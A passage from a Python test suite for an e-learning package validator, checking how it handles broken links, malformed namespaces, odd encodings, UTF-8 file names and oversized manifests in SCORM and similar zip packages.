    document = manifest(ITEM.replace("</item>", lom)).replace(b'"O"', b'"5-Why (Course)"')
    assert _weights(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document}))["X302"] == {Severity.WARNING}
    document = manifest(ITEM.replace("</item>", "\n<adlcp:timelimitaction/>\n</item>"))
    assert _weights(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document}))["X302"] == {Severity.WARNING}
    many = "".join(f'\n<item identifier="{n}"><title>One</title></item>' for n in range(60))
    document = manifest(many + "\n<nonsense/>")
    found = list(validate_package(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document})).findings)
    assert {one.severity for one in found if one.code == "X302"} == {Severity.ERROR, Severity.WARNING}


def test_blanks_around_identifiers_are_none_of_them(tmp_path: Path) -> None:
    document = manifest().replace(b'identifier="O"', b'identifier=" O "').replace(b'ref="R"', b'ref=" R "')
    assert not codes(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document})) & {"P203", "X302"}


def test_a_default_that_is_none_is_forgiven_where_there_is_one_organization(tmp_path: Path) -> None:
    document = manifest().replace(b'default="O"', b'default="Q"')
    assert _weights(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document}))["P203"] == {Severity.WARNING}
    document = document.replace(b"</organizations>", b'<organization identifier="P"/></organizations>')
    assert _weights(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document}))["P203"] == {Severity.ERROR}


def test_names_in_utf8_that_are_not_marked_as_such_are_read(tmp_path: Path) -> None:
    files = {
        **SMALL,
        "imsmanifest.xml": manifest().replace(b"a.html", "Prüfung%20é.html".encode()),
        "Prüfung é.html": PAGE,
    }
    path = zipped(tmp_path / "p.zip", files)
    content = bytearray(path.read_bytes())
    for sign, at in (
        (b"PK\x03\x04", 7),
        (b"PK\x01\x02", 9),
    ):  # where the mark is, in the files' heads and the directory
        where = content.find(sign)
        while where >= 0:
            content[where + at] &= ~0x08
            where = content.find(sign, where + 1)
    path.write_bytes(content)
    assert not codes(path) & {"P204", "P211", "P223"}


@pytest.mark.parametrize(
    ("written", "code", "weights"),
    [
        ('<link rel="license" href="https://example.org/by">', "P249", set()),
        ('<link rel="preconnect" href="https://example.org">', "P249", set()),
        ('<link rel="Stylesheet" href="https://example.org/a.css">', "P249", {Severity.INFO}),
        ('<link rel="shortcut icon" href="gone.ico">', "P248", {Severity.INFO}),
        ('<img src="gone.png">', "P248", {Severity.WARNING}),
        ('<img src="pics\\a.png">', "P248", set()),
        ('<img src="pics/a.png?v=1#x">', "P248", set()),
        ('<a href="C:\\courses\\a.html">a</a>', "P248", {Severity.WARNING}),
        ('<img src="file:///home/me/a.png">', "P248", {Severity.WARNING}),
        ('<base target="_blank"><img src="gone.png">', "P248", {Severity.WARNING}),
        ('<base href="https://example.org/"><img src="gone.png">', "P248", set()),
        ('<a href="mailto:a@example.org">a</a><a href="javascript:go()">a</a><a href="#top">a</a>', "P248", set()),
        ('<img src="data:image/png;base64,AA=="><img src="{{ picture }}">', "P248", set()),
        ('<img srcset="pics/a.png 1x, gone.png 2x">', "P248", {Severity.WARNING}),
        ('<p style="background:url(&quot;pics/a.png&quot;)">', "P248", set()),
        ('<p style="background:url(gone.png)">', "P248", {Severity.WARNING}),
        ('<a href="/courses">a</a><img src="//example.org/a.png">', "P320", set()),
        ('<img src="/pics/a.png">', "P320", {Severity.WARNING}),
        ('<a href="http://example.org/">a</a>', "P310", set()),
    ],
)
def test_addresses_on_pages_are_read_as_browsers_do(
    written: str, code: str, weights: set[Severity], tmp_path: Path
) -> None:
    page = f"<html><head><title>One</title></head><body>{written}</body></html>".encode()
    path = zipped(tmp_path / "p.zip", {**SMALL, "b.html": page, "pics/a.png": b""})
    assert _weights(path).get(code, set()) == weights


@pytest.mark.parametrize(
    ("files", "advice"),
    [
        ({"course.crs": b"", "course.au": b"", "course.cst": b"", "course.des": b""}, "AICC"),
        ({"content.xml": b"<ode/>", "index.html": PAGE}, "eXeLearning"),
        ({"CSF.xml": b"<content/>", "a.html": PAGE}, "SCORM 1.1"),
        ({"angelData.xml": b"<a/>", "index.html": PAGE}, "ANGEL"),
        ({"h5p.json": b"{}", "content/content.json": b"{}"}, "H5P"),
        ({"index.html": PAGE}, "a website"),
    ],
)
def test_what_is_no_package_is_told_what_it_looks_like(files: dict[str, bytes], advice: str, tmp_path: Path) -> None:
    found = validate_package(zipped(tmp_path / "p.zip", files)).findings
    assert [advice in one.text for one in found if one.code == "P229"] == [True]


def test_a_manifest_that_breaks_the_rules_of_namespaces_is_judged_on(tmp_path: Path) -> None:
    document = manifest("<item/><x:1/>").replace(f'xmlns:adlcp="{ADL_12}"'.encode(), b"")
    verdict = validate_package(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document}))
    assert verdict.kind == "SCORM 1.2"
    assert {"P321", "P234"} <= {one.code for one in verdict.findings}
    assert not {"X301", "P311"} & {one.code for one in verdict.findings}


def test_a_namespace_whose_name_is_no_address_is_hardly_worth_a_word(tmp_path: Path) -> None:
    document = manifest().replace(b'identifier="M"', b'identifier="M" xmlns:x="http: //example.org"')
    assert _weights(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document})) == {"P321": {Severity.INFO}}


def test_weights_are_those_that_an_upload_meets(tmp_path: Path) -> None:
    more = '<resource identifier="S" type="webcontent" adlcp:scormtype="asset"><file href="gone.xsd"/></resource>'
    extra = {f"{number}.txt": b"" for number in range(9)}
    files = {**SMALL, "imsmanifest.xml": manifest(resources=more), "a.py": b"", "b.php": b"", **extra}
    weights = _weights(zipped(tmp_path / "p.zip", files))
    assert weights["P204"] == {Severity.WARNING}  # a control document that nobody opens
    assert weights["P205"] == {Severity.INFO}
    assert weights["P227"] == {Severity.WARNING, Severity.INFO}


def test_an_edition_in_other_capitals_is_told_and_said(tmp_path: Path) -> None:
    document = (
        manifest()
        .replace(CP_12.encode(), b"http://www.imsglobal.org/xsd/imscp_v1p1")
        .replace(ADL_12.encode(), b"http://www.adlnet.org/xsd/adlcp_v1p3")
        .replace(b">1.2<", b">2004 4th EDITION<")
    )
    verdict = validate_package(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document}))
    assert verdict.kind == "SCORM 2004 4th edition"
    assert {"P319", "P311"} <= {one.code for one in verdict.findings}


@pytest.mark.parametrize(
    ("namespace", "kind"),
    [
        ("http://www.blackboard.com/content-packaging/", "Blackboard export"),
        ("http://desire2learn.com/xsd/d2lcp_v2p0", "Brightspace (D2L) export"),
        ("http://www.webct.com/xsd/cisv3", "WebCT export"),
        ("http://example.org/other", "SCORM 1.2"),
    ],
)
def test_an_export_of_an_lms_is_told_even_where_it_declares_scorm(namespace: str, kind: str, tmp_path: Path) -> None:
    document = manifest().replace(b'identifier="M"', f'identifier="M" xmlns:v="{namespace}"'.encode())
    assert validate_package(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document})).kind == kind


# --- names that stand for nothing -------------------------------------------------------------------------------------

NO_PREFIX = TEXT.replace(f' xmlns:adlcp="{ADL_12}"', "").encode()
BRACES = {
    "imsmanifest.xml": b'<manifest xmlns="{x}"/>',
    "cmi5.xml": b'<courseStructure xmlns="a}b"/>',
    "tincan.xml": b'<tincan xmlns:a="{" a:b="c"/>',
    "moodle_backup.xml": b'<moodle_backup xmlns="&#x7d;"/>',
}


@pytest.mark.parametrize("name", BRACES)
def test_a_brace_in_a_namespace_is_said_and_not_suffered(name: str, tmp_path: Path) -> None:
    path = zipped(tmp_path / "p.zip", {name: BRACES[name], "a.html": PAGE})
    assert {"P321", "X301"} & {finding.code for finding in validate_package(path, ALL_LMSS).findings}
    assert inspect_package(path).outline is None


@pytest.mark.parametrize(
    "document",
    [
        NO_PREFIX,
        TEXT.replace("<title>One</title>", "<a:b:c>One</a:b:c>").encode(),
        TEXT.replace('identifier="A"', 'identifier="A" a:b:c="d" e:f="g"').encode(),
        TEXT.replace("<item ", "<9:item ").replace("</item>", "</9:item>").encode(),
    ],
)
def test_prefixes_that_stand_for_nothing_are_said_and_not_suffered(document: bytes, tmp_path: Path) -> None:
    path = zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document})
    assert {"P321", "X301"} & {finding.code for finding in validate_package(path, ALL_LMSS).findings}
    assert all(map(str.isprintable, as_text(inspect_package(path))))


@pytest.mark.parametrize("encoding", ["UTF-7", "IBM037", "JAVA", "x-user-defined"])
def test_an_encoding_in_which_nothing_can_be_bounded_is_not_read(encoding: str, tmp_path: Path) -> None:
    document = TEXT.replace('"1.0"', f'"1.0" encoding="{encoding}"').encode()
    found = validate_package(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": document})).findings
    assert any(one.code == "X301" for one in found)


def test_attributes_are_bounded_whatever_they_hold(tmp_path: Path) -> None:
    item = "<item " + " ".join(f"a{number}='>'" for number in range(100_000)) + "/>"
    assert "P254" in codes(zipped(tmp_path / "p.zip", {**SMALL, "imsmanifest.xml": manifest(item)}))
